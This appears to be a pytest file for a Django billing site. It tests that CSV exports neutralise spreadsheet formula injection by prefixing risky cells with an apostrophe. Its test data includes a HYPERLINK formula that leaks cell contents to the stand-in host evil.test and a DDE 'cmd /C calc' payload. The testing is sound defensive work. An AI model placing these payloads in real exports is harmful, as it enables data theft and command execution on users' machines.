"""CSV formula injection: text cells a spreadsheet would run are neutralised in every export."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
import time_machine
from django.urls import reverse

from billing_site.csv_export import csv_response, csv_safe
from customers.tests.factories import AccountFactory

HYPERLINK = '=HYPERLINK("http://evil.test/?x="&A1,"Click")'


def read(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-12.50", "-12.50"),
        ("+7", "+7"),
        ("-1234", "-1234"),
        ("Maison = Verte", "Maison = Verte"),
        ("", ""),
        (Decimal("-12.50"), Decimal("-12.50")),
        (-3, -3),
        (True, True),
        (None, None),
    ],
)
def test_csv_safe(cell, written):
    assert csv_safe(cell) == written


def test_header_and_rows_go_through_the_helper():
    rows = read(csv_response("x.csv", ["=h", "amount"], [["@a", Decimal("-5.00")], ["ok", "-5.00"]]))
    assert rows == [["'=h", "amount"], ["'@a", "-5.00"], ["ok", "-5.00"]]


@pytest.mark.django_db
def test_the_accounts_export_neutralises_a_formula_name(finance_client):
    AccountFactory(name=HYPERLINK, legal_name="@evil", billing_emails="", city="-Paris")
    rows = read(finance_client.get(reverse("customers:export")))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert (row["name"], row["legal_name"], row["city"], row["credit_limit"]) == (
        "'" + HYPERLINK, "'@evil", "'-Paris", "10000"
    )


@pytest.mark.django_db
def test_the_payments_export_neutralises_a_bank_reference_and_keeps_amounts_numeric(finance_client):
    from payments import services

    account = AccountFactory(name="Alpha")
    with time_machine.travel(dt.datetime(2026, 6, 30, 10, tzinfo=dt.UTC), tick=False):
        for reference in ("+cmd|' /C calc'!A0", "-1+1", "@SUM(1)", "VIR 42"):
            services.payment_record(
                account=account, amount=Decimal("10.00"), currency="EUR", received_date=dt.date(2026, 6, 1),
                method="bank_transfer", reference=reference, today=dt.date(2026, 6, 30),
            )
    rows = read(finance_client.get(reverse("payments:export")))
    assert sorted((r[5], r[11]) for r in rows[1:]) == [
        ("10.00", "'+cmd|' /C calc'!A0"), ("10.00", "'-1+1"), ("10.00", "'@SUM(1)"), ("10.00", "VIR 42"),
    ]
